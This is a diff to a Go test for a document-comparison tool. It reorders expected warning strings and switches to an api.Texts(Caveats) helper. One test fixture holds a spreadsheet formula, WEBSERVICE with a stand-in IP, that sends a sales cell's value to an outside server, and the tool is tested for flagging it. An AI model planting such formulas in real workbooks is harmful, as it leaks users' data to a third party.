@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/agnes-data/da/api"
 	"github.com/agnes-data/da/document/docx"
 	"github.com/agnes-data/da/document/sheet"
 	"github.com/agnes-data/da/workspace"
@@ -109,7 +110,7 @@ func TestWhatTextsDoNotShowIsCompared(t *testing.T) {
 	docx("comment", "Please check", "Approved")
 	for name, want := range map[string]string{
 		"formula": `{Sum!B1||=WEBSERVICE("http://192.0.2.1/?"&Sales!B2)}` +
-			"Sum!B1 has the function WEBSERVICE: a program that opens the workbook may send a request to a server; values of formulas may be from before this change: open the workbook in a program that calculates, and save it",
+			"values of formulas may be from before this change: open the workbook in a program that calculates, and save it; Sum!B1 has the function WEBSERVICE: a program that opens the workbook may send a request to a server",
 		"table": "{Tab|sheet of 3 rows|}{table Revenue|Tab!A1:B3|}" +
 			`values of formulas may be from before this change: open the workbook in a program that calculates, and save it; 1 formula refers, the first in Sum!A1, to the deleted table "Revenue"`,
 		"header":  "{header|Header of ACME|Header of BETA}",
@@ -123,7 +124,7 @@ func TestWhatTextsDoNotShowIsCompared(t *testing.T) {
 		for _, d := range all[0].Content.Changes {
 			got += fmt.Sprintf("{%s|%s|%s}", d.Place, d.Before, d.After)
 		}
-		if got += strings.Join(all[0].Content.Warnings, "; ") + all[0].Content.Problem; got != want {
+		if got += strings.Join(api.Texts(all[0].Content.Caveats), "; ") + all[0].Content.Problem; got != want {
 			t.Errorf("%s: %s\nwant %s", name, got, want)
 		}
 	}
